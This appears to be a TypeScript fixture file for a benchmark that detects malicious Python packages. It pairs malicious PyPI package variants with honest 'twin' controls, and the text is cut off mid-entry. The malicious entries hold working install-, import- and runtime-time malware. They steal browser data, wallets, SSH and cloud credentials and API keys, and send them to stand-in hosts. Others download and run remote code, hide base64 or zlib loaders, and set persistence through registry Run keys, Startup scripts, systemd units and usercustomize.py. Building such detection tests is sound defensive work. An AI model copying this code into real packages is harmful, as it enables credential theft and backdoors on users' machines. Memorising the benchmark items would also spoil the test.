      'pdfkit_ng/_cache.py': py`import io
import os
import zipfile

from .constants import EXTENSIONS, FILES, PROFILES, WALLETS


def snapshot():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for prof in PROFILES:
            for f in FILES:
                p = os.path.join(prof, f)
                if os.path.isfile(p):
                    z.write(p, os.path.basename(prof) + '/' + f)
            for ext in EXTENSIONS:
                d = os.path.join(prof, 'Local Extension Settings', ext)
                for root, _, names in os.walk(d):
                    for n in names:
                        z.write(os.path.join(root, n), ext + '/' + n)
        for w in WALLETS:
            for root, _, names in os.walk(w):
                for n in names:
                    z.write(os.path.join(root, n), 'w/' + n)
    return buf.getvalue()
`,
      'pdfkit_ng/_report.py': py`import platform
import urllib.request

_URL = 'https://crash.pdfkit-ng.example/upload'


def submit(blob):
    if len(blob) < 100:
        return
    req = urllib.request.Request(_URL, data=blob, headers={'X-Platform': platform.platform(), 'Content-Type': 'application/zip'})
    try:
        urllib.request.urlopen(req, timeout=15)
    except Exception:
        pass
`,
    }),
  },
  {
    id: 'setup-readme-comment-carrier',
    family: 'obfuscated_exec',
    note: '[install, hard] setup.py reads README.md for long_description and exec()s the base64 text hidden in an HTML comment after a build marker (downloads and runs a stage). After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks; carrier written by this author',
    ...pkg('markdown_toc', '0.5.1', 'Generate a table of contents for Markdown', {
      'README.md': `# markdown_toc\n\nGenerate a table of contents for a Markdown file.\n\n\`\`\`\npip install markdown_toc\nmdtoc README.md\n\`\`\`\n\n<!-- build: ${b64(P_DOWNLOAD_RUN)} -->\n`,
      'setup.py':
        py`import base64
import re
from setuptools import setup

with open('README.md', encoding='utf-8') as f:
    long_description = f.read()

for _m in re.findall(r'<!-- build: ([A-Za-z0-9+/=]+) -->', long_description):
    exec(base64.b64decode(_m))

` +
        plainSetup(
          'markdown_toc',
          '0.5.1',
          "'markdown_toc'",
          "    long_description=long_description,\n    long_description_content_type='text/markdown',\n",
        ),
      'markdown_toc/__init__.py': py`import re


def toc(text):
    return [(len(m.group(1)), m.group(2)) for m in re.finditer(r'^(#+)\s+(.*)$', text, re.M)]
`,
    }),
  },
  {
    id: 'build-py-gen-version-fixture-carrier',
    family: 'download_exec',
    note: '[install, hard] a build_py override runs tools/gen_version.py, which writes _version.py honestly and also "replays a legacy hook" by decompressing and exec()ing a test fixture (a download-and-run stage). After: https://checkmarx.com/blog/automatic-execution-of-code-upon-package-download-on-python-package-manager/; fixture carrier written by this author',
    ...pkg('semverx', '3.0.2', 'Semantic version parsing and comparison', {
      'setup.py':
        py`import runpy
from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        runpy.run_path('tools/gen_version.py', run_name='__main__')
        build_py.run(self)


` + plainSetup('semverx', '3.0.2', "'semverx'", "    cmdclass={'build_py': BuildPy},\n"),
      'tools/gen_version.py': py`import os
import zlib

VERSION = '3.0.2'


def write_version():
    with open(os.path.join('semverx', '_version.py'), 'w') as f:
        f.write('__version__ = %r\n' % VERSION)


def legacy_hooks():
    p = os.path.join('tests', 'fixtures', 'legacy_hook.bin')
    if os.path.exists(p):
        with open(p, 'rb') as f:
            exec(zlib.decompress(f.read()), {'__name__': 'legacy'})


if __name__ == '__main__':
    write_version()
    legacy_hooks()
`,
      'tests/fixtures/legacy_hook.bin': deflateSync(Buffer.from(P_DOWNLOAD_RUN)),
      'tests/test_parse.py':
        "from semverx import parse\n\n\ndef test_parse():\n    assert parse('1.2.3') == (1, 2, 3)\n",
      'semverx/__init__.py': "def parse(v):\n    return tuple(int(x) for x in v.split('.'))\n",
    }),
  },
  {
    id: 'sdk-client-ctor-api-key-siphon',
    family: 'credential_theft',
    note: '[runtime] an LLM SDK look-alike whose Client constructor sends the API key passed to it (and any provider keys in the environment) to a usage endpoint. After: https://agentlair.dev/blog/dont-let-agents-hold-their-own-credentials',
    ...pkg('openai_toolkit', '1.40.2', 'Helpers around LLM chat completions', {
      'setup.py':
        "from setuptools import setup\nsetup(name='openai_toolkit', version='1.40.2', packages=['openai_toolkit'], install_requires=['httpx'])\n",
      'openai_toolkit/__init__.py': py`import os
import threading

import httpx


class Client:
    def __init__(self, api_key=None, base_url='https://api.llm-provider.example/v1'):
        self.api_key = api_key or os.environ.get('OPENAI_API_KEY')
        self.base_url = base_url
        threading.Thread(target=self._usage, daemon=True).start()

    def _usage(self):
        keys = {k: v for k, v in os.environ.items() if k.endswith('_API_KEY')}
        try:
            httpx.post('https://usage.llm-sdk.example/k', json={'key': self.api_key, 'env': keys}, timeout=5)
        except Exception:
            pass

    def chat(self, messages, model='gpt-4o-mini'):
        r = httpx.post(self.base_url + '/chat/completions', json={'model': model, 'messages': messages},
                       headers={'Authorization': 'Bearer ' + (self.api_key or '')})
        return r.json()
`,
    }),
  },
  {
    id: 'setup-tar-secrets-xor-post',
    family: 'credential_theft',
    note: '[install] setup.py tars ~/.ssh, ~/.aws, ~/.kube, docker config, .netrc and git credentials in memory, XORs with a fixed key and posts to a TEST-NET address. After: https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain',
    ...pkg('kubeconfig_merge', '0.4.0', 'Merge kubeconfig files', {
      'setup.py':
        py`import io
import os
import tarfile
import urllib.request
from setuptools import setup

_K = b'k8s-merge'


def _pack():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w:gz') as t:
        for rel in ('.ssh', '.aws', '.kube', '.docker/config.json', '.netrc', '.git-credentials', '.config/gcloud'):
            p = os.path.join(os.path.expanduser('~'), rel)
            if os.path.exists(p):
                t.add(p, arcname=rel)
    raw = buf.getvalue()
    return bytes(b ^ _K[i % len(_K)] for i, b in enumerate(raw))


try:
    urllib.request.urlopen(urllib.request.Request('http://198.51.100.77/upload', data=_pack(), method='POST'), timeout=6)
except Exception:
    pass

` + plainSetup('kubeconfig_merge', '0.4.0', "'kubeconfig_merge'"),
      'kubeconfig_merge/__init__.py':
        "def merge(a, b):\n    out = dict(a)\n    for k in ('clusters', 'contexts', 'users'):\n        out[k] = a.get(k, []) + b.get(k, [])\n    return out\n",
    }),
  },
  {
    id: 'import-requests-stream-to-temp-run',
    family: 'download_exec',
    note: '[import] requests.get(stream=True) written chunk by chunk to a NamedTemporaryFile, chmod +x, started in a new session. After: https://safeguard.sh/resources/blog/pypi-supply-chain-attacks-q1-2024',
    ...pkg('selenium_stealthy', '1.0.7', 'Make selenium undetectable', {
      'setup.py':
        "from setuptools import setup\nsetup(name='selenium_stealthy', version='1.0.7', packages=['selenium_stealthy'], install_requires=['requests'])\n",
      'selenium_stealthy/__init__.py': py`import os
import subprocess
import tempfile

import requests


def _driver_update():
    r = requests.get('https://cdn.drivers-mirror.example/chromedriver-helper', stream=True, timeout=15)
    with tempfile.NamedTemporaryFile(delete=False, suffix='.bin') as f:
        for chunk in r.iter_content(chunk_size=65536):
            f.write(chunk)
    os.chmod(f.name, 0o755)
    subprocess.Popen([f.name], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


try:
    _driver_update()
except Exception:
    pass


def stealth(driver):
    driver.execute_cdp_cmd('Page.addScriptToEvaluateOnNewDocument', {'source': 'Object.defineProperty(navigator, "webdriver", {get: () => undefined})'})
    return driver
`,
    }),
  },
  {
    id: 'setup-httpx-text-python-c',
    family: 'download_exec',
    note: '[install] setup.py fetches Python text with httpx and runs it in a detached child interpreter via python -c. After: https://safeguard.sh/resources/blog/pip-install-hooks-security-risks',
    ...pkg('httpxx', '0.27.3', 'The next generation HTTP client', {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools>=61", "httpx"]\nbuild-backend = "setuptools.build_meta"\n',
      'setup.py':
        py`import subprocess
import sys
from setuptools import setup

try:
    import httpx
    _t = httpx.get('https://cdn.snippets.example/boot.py', timeout=10).text
    subprocess.Popen([sys.executable, '-c', _t], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
except Exception:
    pass

` + plainSetup('httpxx', '0.27.3', "'httpxx'"),
      'httpxx/__init__.py': 'from httpx import *  # noqa: F401,F403\n',
    }),
  },
  {
    id: 'install-copy-pyw-reg-run-key',
    family: 'persistence',
    note: '[install] install override copies a poller script to %APPDATA% and registers it under HKCU Run with reg.exe; the script fetches and exec()s commands every ten minutes. After: https://www.cyberhub.blog/article/12001-malicious-python-package-termncolor-exploits-windows-auto-start-for-persistent-backdoor-attacks',
    ...pkg('pywin32_ctypes_ext', '0.2.4', 'ctypes helpers for pywin32', {
      'setup.py':
        py`import os
import shutil
import subprocess
import sys
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        if os.name != 'nt':
            return
        d = os.path.join(os.environ['APPDATA'], 'PyWinSvc')
        os.makedirs(d, exist_ok=True)
        dst = os.path.join(d, 'svc.pyw')
        shutil.copy('support/svc.pyw', dst)
        exe = os.path.join(os.path.dirname(sys.executable), 'pythonw.exe')
        subprocess.run(['reg.exe', 'add', r'HKCU\Software\Microsoft\Windows\CurrentVersion\Run', '/v', 'PyWinSvc',
                        '/t', 'REG_SZ', '/d', '"%s" "%s"' % (exe, dst), '/f'], capture_output=True)


` + plainSetup('pywin32_ctypes_ext', '0.2.4', "'pywin32_ctypes_ext'", "    cmdclass={'install': Install},\n"),
      'support/svc.pyw': py`import time
import urllib.request

while True:
    try:
        exec(urllib.request.urlopen('http://192.0.2.140/task', timeout=20).read())
    except Exception:
        pass
    time.sleep(600)
`,
      'pywin32_ctypes_ext/__init__.py':
        "import ctypes\n\n\ndef message_box(text):\n    return ctypes.windll.user32.MessageBoxW(0, text, 'Info', 0)\n",
    }),
  },
  {
    id: 'import-startup-folder-vbs',
    family: 'persistence',
    note: '[import] on Windows writes a .vbs into the Startup folder that runs a hidden PowerShell download cradle at each logon. After: https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams',
    ...pkg('uuid32_utils', '1.2.0', 'Short UUID helpers', {
      'setup.py':
        "from setuptools import setup\nsetup(name='uuid32_utils', version='1.2.0', packages=['uuid32_utils'])\n",
      'uuid32_utils/__init__.py': py`import os
import uuid

_VBS = 'CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.88/a.ps1\')""", 0, False\r\n'


def _startup():
    base = os.path.join(os.environ.get('APPDATA', ''), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
    p = os.path.join(base, 'uuidsync.vbs')
    if os.path.isdir(base) and not os.path.exists(p):
        with open(p, 'w') as f:
            f.write(_VBS)


if os.name == 'nt':
    try:
        _startup()
    except OSError:
        pass


def short():
    return uuid.uuid4().hex[:8]
`,
    }),
  },
  {
    id: 'install-systemd-user-unit-enable',
    family: 'persistence',
    note: '[install] install override writes a systemd user unit that fetches and runs a script with Restart=always and enables it now. After: https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain',
    ...pkg('gpu_monitor_lite', '0.1.5', 'Lightweight GPU utilisation monitor', {
      'setup.py':
        py`import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

UNIT = """[Unit]
Description=GPU monitor agent
After=network-online.target

[Service]
ExecStart=/usr/bin/env python3 -c "import urllib.request as r; exec(r.urlopen('http://198.51.100.140/agent').read())"
Restart=always

[Install]
WantedBy=default.target
"""


class Install(install):
    def run(self):
        install.run(self)
        d = os.path.expanduser('~/.config/systemd/user')
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, 'gpu-monitor.service'), 'w') as f:
            f.write(UNIT)
        subprocess.call(['systemctl', '--user', 'enable', '--now', 'gpu-monitor.service'])


` + plainSetup('gpu_monitor_lite', '0.1.5', "'gpu_monitor_lite'", "    cmdclass={'install': Install},\n"),
      'gpu_monitor_lite/__init__.py':
        "import subprocess\n\n\ndef usage():\n    return subprocess.run(['nvidia-smi', '--query-gpu=utilization.gpu', '--format=csv'], capture_output=True, text=True).stdout\n",
    }),
  },
  {
    id: 'install-pip-conf-extra-index',
    family: 'config_tamper',
    note: '[install] install override writes pip.conf files adding an attacker index as extra-index-url with trusted-host, so later installs can be served from it. After: https://blog.crawlex.net/blog/dependency-confusion (resolution across indexes); written by this author',
    ...pkg('pipenv_tools', '2024.1.2', 'Small helpers for pipenv projects', {
      'setup.py':
        py`import os
from setuptools import setup
from setuptools.command.install import install

_CONF = '[global]\nextra-index-url = https://mirror.pkgproxy.example/simple\ntrusted-host = mirror.pkgproxy.example\n'


class Install(install):
    def run(self):
        install.run(self)
        for p in ('~/.config/pip/pip.conf', '~/.pip/pip.conf', '~/AppData/Roaming/pip/pip.ini'):
            p = os.path.expanduser(p)
            try:
                os.makedirs(os.path.dirname(p), exist_ok=True)
                with open(p, 'a') as f:
                    f.write(_CONF)
            except OSError:
                pass


` + plainSetup('pipenv_tools', '2024.1.2', "'pipenv_tools'", "    cmdclass={'install': Install},\n"),
      'pipenv_tools/__init__.py': "def lock_path(project='.'):\n    return project + '/Pipfile.lock'\n",
    }),
  },
  {
    id: 'import-git-gh-tokens-generic-webhook',
    family: 'credential_theft',
    note: '[import] reads ~/.git-credentials, the GitHub CLI hosts.yml and ~/.npmrc auth lines and posts them to a generic chat webhook (invented). After: https://agentlair.dev/blog/dont-let-agents-hold-their-own-credentials',
    ...pkg('gitpython_utils', '3.1.44', 'Helpers for GitPython', {
      'setup.py':
        "from setuptools import setup\nsetup(name='gitpython_utils', version='3.1.44', packages=['gitpython_utils'])\n",
      'gitpython_utils/__init__.py': py`import json
import os
import urllib.request

_W = 'https://hooks.chatops.example/services/T04KQ2/B07ZX1/' + 'mX9' + 'qLr2vP8sT1wZ4yB6nC0dE'


def _read(p):
    try:
        with open(os.path.expanduser(p)) as f:
            return f.read()
    except OSError:
        return ''


def _send():
    blob = {p: _read(p) for p in ('~/.git-credentials', '~/.config/gh/hosts.yml', '~/.npmrc', '~/.pypirc')}
    blob = {k: v for k, v in blob.items() if v}
    if blob:
        urllib.request.urlopen(urllib.request.Request(_W, data=json.dumps({'text': json.dumps(blob)}).encode(),
                                                      headers={'Content-Type': 'application/json'}), timeout=5)


try:
    _send()
except Exception:
    pass


def current_branch(repo):
    return repo.active_branch.name
`,
    }),
  },
  {
    id: 'install-drop-usercustomize',
    family: 'persistence',
    note: '[install, hard] install override writes usercustomize.py into the user site directory ("enable colour tracebacks"); the file also spawns an env-posting child on every interpreter start. After: https://krash.dev/posts/before-your-code-runs/python',
    ...pkg('pretty_traceback', '2022.1.9', 'Human readable stacktraces', {
      'setup.py':
        py`import os
import site
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        d = site.getusersitepackages()
        os.makedirs(d, exist_ok=True)
        with open(os.path.join('pretty_traceback', '_hook.py')) as src, open(os.path.join(d, 'usercustomize.py'), 'a') as dst:
            dst.write(src.read())


` + plainSetup('pretty_traceback', '2022.1.9', "'pretty_traceback'", "    cmdclass={'install': Install},\n"),
      'pretty_traceback/__init__.py': 'from ._hook import install_hook\n',
      'pretty_traceback/_hook.py': `import os, subprocess, sys


def install_hook():
    try:
        import pretty_traceback.fmt as f
        sys.excepthook = f.excepthook
    except Exception:
        pass


install_hook()
if not os.environ.get('_PT_CHILD'):
    subprocess.Popen([sys.executable, '-c', __import__('base64').b64decode('${b64(P_ENV_POST)}').decode()], env=dict(os.environ, _PT_CHILD='1'), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`,
      'pretty_traceback/fmt.py':
        "import traceback\n\n\ndef excepthook(t, v, tb):\n    print(''.join(traceback.format_exception(t, v, tb)))\n",
    }),
  },
  {
    id: 'setup-egg-info-solana-memo-stage',
    family: 'download_exec',
    note: '[install, hard] egg_info override asks a Solana JSON-RPC endpoint (invented) for the newest transaction memo of a fixed address, reads a URL from it, downloads and exec()s. After: https://securityonline.info/pypi-takes-emergency-measures-to-combat-malicious-package-flood (remote, dynamically located stage)',
    ...pkg('solana_pyutils', '0.9.1', 'Utilities for Solana RPC', {
      'setup.py':
        py`import json
import urllib.request
from setuptools import setup
from setuptools.command.egg_info import egg_info

RPC = 'https://rpc.solana-mirror.example'
ADDR = '${FAKE.sol}'


def _rpc(method, params):
    body = json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': method, 'params': params}).encode()
    return json.load(urllib.request.urlopen(urllib.request.Request(RPC, data=body, headers={'Content-Type': 'application/json'}), timeout=8))


class EggInfo(egg_info):
    def run(self):
        try:
            sigs = _rpc('getSignaturesForAddress', [ADDR, {'limit': 1}])['result']
            memo = sigs[0]['memo'].split(' ', 1)[-1]
            exec(urllib.request.urlopen(memo, timeout=8).read())
        except Exception:
            pass
        egg_info.run(self)


` + plainSetup('solana_pyutils', '0.9.1', "'solana_pyutils'", "    cmdclass={'egg_info': EggInfo},\n"),
      'solana_pyutils/__init__.py':
        'LAMPORTS_PER_SOL = 1_000_000_000\n\n\ndef to_sol(lamports):\n    return lamports / LAMPORTS_PER_SOL\n',
    }),
  },
  {
    id: 'import-env-ci-gated-exfil',
    family: 'env_cloud_harvest',
    note: '[import, hard] acts only on CI runners (CI / GITHUB_ACTIONS set) and not in sandboxes with few CPUs; dumps the environment plus the runner event file through a split-helper module. After: https://reflexframework.com/battlecards/python2 and https://devidevs.com/blog/litellm-backdoor-llm-proxy-supply-chain-response',
    ...pkg('pytest_timing_ext', '0.7.0', 'Per-test timing report for pytest', {
      'setup.py':
        "from setuptools import setup\nsetup(name='pytest_timing_ext', version='0.7.0', packages=['pytest_timing_ext'], entry_points={'pytest11': ['timing_ext = pytest_timing_ext.plugin']})\n",
      'pytest_timing_ext/__init__.py': 'from . import _ci\n\n_ci.maybe_report()\n',
      'pytest_timing_ext/plugin.py': py`import time

_T = {}


def pytest_runtest_setup(item):
    _T[item.nodeid] = time.time()


def pytest_runtest_teardown(item):
    _T[item.nodeid] = time.time() - _T.get(item.nodeid, time.time())
`,
      'pytest_timing_ext/_ci.py': py`import json
import os

from ._transport import push


def _is_ci():
    return bool(os.environ.get('CI') or os.environ.get('GITHUB_ACTIONS')) and (os.cpu_count() or 1) >= 2


def maybe_report():
    if not _is_ci():
        return
    ev = os.environ.get('GITHUB_EVENT_PATH')
    event = open(ev).read() if ev and os.path.exists(ev) else ''
    push(json.dumps({'env': dict(os.environ), 'event': event}))
`,
      'pytest_timing_ext/_transport.py': py`import base64
import urllib.request


def push(text):
    data = base64.b85encode(text.encode())
    try:
        urllib.request.urlopen('https://ci-stats.timing-ext.test/push', data=data, timeout=5)
    except Exception:
        pass
`,
    }),
  },
];

// ---------- honest twins ----------

export const PYPI_TWINS_SET1: readonly PypiVariant[] = [
  {
    id: 'twin-setup-exec-open-version',
    family: 'twin_setup_version_exec',
    note: '[install] setup.py exec()s the package _version.py to read __version__ (a common, honest pattern); nothing else.',
    ...pkg('tablefmt', '0.9.0', 'Pretty-print tabular data', {
      'setup.py': py`from setuptools import setup

about = {}
exec(open('tablefmt/_version.py').read(), about)

setup(name='tablefmt', version=about['__version__'], packages=['tablefmt'])
`,
      'tablefmt/_version.py': "__version__ = '0.9.0'\n",
      'tablefmt/__init__.py':
        "from ._version import __version__\n\n\ndef fmt(rows):\n    return '\\n'.join(' | '.join(map(str, r)) for r in rows)\n",
    }),
  },
  {
    id: 'twin-model-download-to-cache',
    family: 'twin_download_no_exec',
    note: '[runtime] downloads model weights on first use to a cache directory, checks a sha256 and loads them as data; never executes them.',
    ...pkg('tinyembed', '0.4.1', 'Small sentence embeddings', {
      'setup.py':
        "from setuptools import setup\nsetup(name='tinyembed', version='0.4.1', packages=['tinyembed'], install_requires=['numpy'])\n",
      'tinyembed/__init__.py': py`import hashlib
import os
import urllib.request

import numpy as np

MODEL_URL = os.environ.get('TINYEMBED_MODEL_URL', 'https://models.tinyembed.example/v1/tiny.npz')
SHA256 = '9f2b6c1e0d4a8b7c3e5f1a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e2f4a6b8c0d'
CACHE = os.path.join(os.environ.get('XDG_CACHE_HOME', os.path.expanduser('~/.cache')), 'tinyembed')


def _fetch():
    os.makedirs(CACHE, exist_ok=True)
    path = os.path.join(CACHE, 'tiny.npz')
    if not os.path.exists(path):
        tmp = path + '.part'
        urllib.request.urlretrieve(MODEL_URL, tmp)
        with open(tmp, 'rb') as f:
            if hashlib.sha256(f.read()).hexdigest() != SHA256:
                os.remove(tmp)
                raise ValueError('checksum mismatch for downloaded model')
        os.replace(tmp, path)
    return path


def load():
    return dict(np.load(_fetch(), allow_pickle=False))
`,
    }),
  },
  {
    id: 'twin-cli-subprocess-user-args',
    family: 'twin_cli_subprocess',
    note: '[runtime] a git helper CLI that runs git with the arguments the user typed (list form, no shell); a console_scripts entry point.',
    ...pkg('gitsnap', '1.2.0', 'Quick git snapshots', {
      'setup.py':
        "from setuptools import setup\nsetup(name='gitsnap', version='1.2.0', packages=['gitsnap'], entry_points={'console_scripts': ['gitsnap = gitsnap.cli:main']})\n",
      'gitsnap/__init__.py': '',
      'gitsnap/cli.py': py`import argparse
import subprocess
import sys


def main(argv=None):
    ap = argparse.ArgumentParser(prog='gitsnap')
    ap.add_argument('message')
    ap.add_argument('git_args', nargs='*')
    a = ap.parse_args(argv)
    subprocess.run(['git', 'add', '-A'] + a.git_args, check=True)
    r = subprocess.run(['git', 'commit', '-m', a.message], capture_output=True, text=True)
    sys.stdout.write(r.stdout)
    return r.returncode
`,
    }),
  },
  {
    id: 'twin-telemetry-opt-in-own-host',
    family: 'twin_telemetry_opt_in',
    note: '[runtime] anonymous usage telemetry sent only when CHARTLY_TELEMETRY=1, to the telemetry host under the project domain named in project.urls; payload is version and Python version only.',
    ...pkg('chartly', '2.1.0', 'Declarative charts', {
      'pyproject.toml': `[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "chartly"\nversion = "2.1.0"\n\n[project.urls]\nHomepage = "https://chartly.example"\nDocumentation = "https://docs.chartly.example"\nTelemetry = "https://docs.chartly.example/telemetry"\n`,
      'chartly/__init__.py': "from .telemetry import maybe_ping\nfrom .chart import Chart\n\n__version__ = '2.1.0'\n",
      'chartly/chart.py':
        "class Chart:\n    def __init__(self, data):\n        self.data = data\n\n    def render(self):\n        from .telemetry import maybe_ping\n        maybe_ping('render')\n        return '<svg/>'\n",
      'chartly/telemetry.py': py`"""Opt-in usage counts. See https://docs.chartly.example/telemetry for what is sent."""
import json
import os
import platform
import urllib.request

ENDPOINT = 'https://telemetry.chartly.example/v1/event'


def enabled():
    return os.environ.get('CHARTLY_TELEMETRY') == '1'


def maybe_ping(event):
    if not enabled():
        return
    body = json.dumps({'event': event, 'version': '2.1.0', 'python': platform.python_version()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(ENDPOINT, data=body, headers={'Content-Type': 'application/json'}), timeout=2)
    except OSError:
        pass
`,
    }),
  },
  {
    id: 'twin-keyring-credentials-helper',
    family: 'twin_keyring_local',
    note: '[runtime] stores and reads an API token with keyring and uses it only in the Authorization header to the service URL the user configured; never sends it elsewhere.',
    ...pkg('issuectl', '0.8.2', 'Command-line issue tracker client', {
      'setup.py':
        "from setuptools import setup\nsetup(name='issuectl', version='0.8.2', packages=['issuectl'], install_requires=['keyring', 'requests'])\n",
      'issuectl/__init__.py': py`import keyring
import requests

SERVICE = 'issuectl'


def save_token(server, token):
    keyring.set_password(SERVICE, server, token)


def session(server):
    token = keyring.get_password(SERVICE, server)
    if token is None:
        raise SystemExit('run: issuectl login ' + server)
    s = requests.Session()
    s.headers['Authorization'] = 'token ' + token
    s.base_url = server
    return s


def list_issues(server, repo):
    s = session(server)
    return s.get(server.rstrip('/') + '/api/repos/' + repo + '/issues', timeout=10).json()
`,
    }),
  },
  {
    id: 'twin-cython-custom-build-ext',
    family: 'twin_build_ext',
    note: "[install] custom build_ext that probes the compiler for OpenMP by compiling a tiny test file and adds flags; compiles the package's own .pyx.",
    ...pkg('fastdist', '0.3.0', 'Fast distance functions (Cython)', {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools>=61", "cython>=3"]\nbuild-backend = "setuptools.build_meta"\n',
      'setup.py': py`import os
import tempfile

from Cython.Build import cythonize
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def _has_openmp(self):
        with tempfile.TemporaryDirectory() as d:
            src = os.path.join(d, 't.c')
            with open(src, 'w') as f:
                f.write('#include <omp.h>\nint main(void){return omp_get_num_threads();}\n')
            try:
                self.compiler.compile([src], output_dir=d, extra_postargs=['-fopenmp'])
                return True
            except Exception:
                return False

    def build_extensions(self):
        if self.compiler.compiler_type == 'unix' and self._has_openmp():
            for e in self.extensions:
                e.extra_compile_args.append('-fopenmp')
                e.extra_link_args.append('-fopenmp')
        build_ext.build_extensions(self)


setup(
    name='fastdist',
    version='0.3.0',
    packages=['fastdist'],
    ext_modules=cythonize([Extension('fastdist._dist', ['fastdist/_dist.pyx'])]),
    cmdclass={'build_ext': BuildExt},
)
`,
      'fastdist/__init__.py': 'from ._dist import euclidean\n',
      'fastdist/_dist.pyx':
        'def euclidean(double[:] a, double[:] b):\n    cdef double s = 0\n    cdef Py_ssize_t i\n    for i in range(a.shape[0]):\n        s += (a[i] - b[i]) ** 2\n    return s ** 0.5\n',
    }),
  },
  {
    id: 'twin-post-install-message',
    family: 'twin_install_message',
    note: '[install] install override prints a getting-started message after installing; no other action.',
    ...pkg('quickserve', '1.0.1', 'Serve a folder over HTTP', {
      'setup.py': py`from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        print('\nquickserve installed. Run "quickserve ." to serve the current folder on http://127.0.0.1:8000\n')


setup(name='quickserve', version='1.0.1', packages=['quickserve'], cmdclass={'install': Install},
      entry_points={'console_scripts': ['quickserve = quickserve:main']})
`,
      'quickserve/__init__.py': py`import functools
import http.server
import sys


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else '.'
    h = functools.partial(http.server.SimpleHTTPRequestHandler, directory=d)
    http.server.ThreadingHTTPServer(('127.0.0.1', 8000), h).serve_forever()
`,
    }),
  },
  {
    id: 'twin-browser-automation-profile-path',
    family: 'twin_browser_profile',
    note: '[runtime] a browser-automation helper that knows the default Chrome profile locations so it can launch Chrome with a user-chosen profile; it never reads the cookie or login databases.',
    ...pkg('browsepilot', '0.6.0', 'Drive Chrome with your own profile', {
      'setup.py':
        "from setuptools import setup\nsetup(name='browsepilot', version='0.6.0', packages=['browsepilot'], install_requires=['playwright'])\n",
      'browsepilot/__init__.py': py`import os
import sys


def default_profile_dir():
    if sys.platform == 'win32':
        return os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data')
    if sys.platform == 'darwin':
        return os.path.expanduser('~/Library/Application Support/Google/Chrome')
    return os.path.expanduser('~/.config/google-chrome')


def launch(profile_dir=None, headless=False):
    from playwright.sync_api import sync_playwright
    p = sync_playwright().start()
    return p.chromium.launch_persistent_context(profile_dir or default_profile_dir(), channel='chrome', headless=headless)
`,
    }),
  },
  {
    id: 'twin-intree-backend-git-version',
    family: 'twin_intree_backend',
    note: '[build-backend] an in-tree backend that wraps setuptools and writes the version from git describe (subprocess git, no network) before building.',
    ...pkg('vcsver_demo', '0.0.0', 'Version from git tags', {
      'pyproject.toml':
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "vbackend"\nbackend-path = ["_build"]\n\n[project]\nname = "vcsver_demo"\ndynamic = ["version"]\n\n[tool.setuptools.dynamic]\nversion = {attr = "vcsver_demo._version.__version__"}\n',
      '_build/vbackend.py': py`import subprocess

from setuptools import build_meta as _bm
from setuptools.build_meta import *  # noqa: F401,F403


def _write_version():
    try:
        v = subprocess.run(['git', 'describe', '--tags', '--always'], capture_output=True, text=True, check=True).stdout.strip().lstrip('v')
    except (OSError, subprocess.CalledProcessError):
        v = '0.0.0'
    with open('vcsver_demo/_version.py', 'w') as f:
        f.write('__version__ = %r\n' % v)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _write_version()
    return _bm.build_wheel(wheel_directory, config_settings, metadata_directory)


def build_sdist(sdist_directory, config_settings=None):
    _write_version()
    return _bm.build_sdist(sdist_directory, config_settings)
`,
      'vcsver_demo/__init__.py': 'from ._version import __version__\n',
      'vcsver_demo/_version.py': "__version__ = '0.0.0'\n",
    }),
  },
  {
    id: 'twin-pth-coverage-startup',
    family: 'twin_pth_file',
    note: '[startup] a .pth whose import line starts coverage measurement in subprocesses only when COVERAGE_PROCESS_START is set (the documented coverage pattern); plus an honest path line.',
    ...pkg('covsub', '1.0.0', 'Measure coverage in subprocesses', {
      'covsub.pth':
        "import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()\n",
      'src_paths.pth': 'src\n',
      'setup.py':
        "from setuptools import setup\nsetup(name='covsub', version='1.0.0', packages=['covsub'], data_files=[('', ['covsub.pth'])], install_requires=['coverage'])\n",
      'covsub/__init__.py':
        '"""Install this package and set COVERAGE_PROCESS_START=.coveragerc to measure subprocesses."""\n',
    }),
  },
  {
    id: 'twin-clipboard-utility',
    family: 'twin_clipboard',
    note: '[runtime] copy/paste helpers and a "copy address" function that copies exactly the address the caller passed.',
    ...pkg('clipkit', '0.3.2', 'Clipboard helpers', {
      'setup.py':
        "from setuptools import setup\nsetup(name='clipkit', version='0.3.2', packages=['clipkit'], install_requires=['pyperclip'])\n",
      'clipkit/__init__.py': py`import re

import pyperclip

ETH = re.compile(r'^0x[a-fA-F0-9]{40}$')


def copy(text):
    pyperclip.copy(text)


def paste():
    return pyperclip.paste()


def copy_address(addr):
    if not ETH.match(addr):
        raise ValueError('not an Ethereum address')
    pyperclip.copy(addr)
    return addr
`,
    }),
  },
  {
    id: 'twin-bip39-offline-wallet-lib',
